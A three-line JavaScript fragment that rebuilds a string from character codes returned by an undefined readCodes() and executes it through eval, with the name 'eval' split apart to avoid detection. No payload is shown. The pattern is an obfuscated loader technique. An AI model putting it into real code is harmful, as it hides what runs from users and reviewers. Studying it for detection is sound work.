const codes = readCodes();
const source = String.fromCharCode(...codes);
globalThis["ev" + "al"](source);
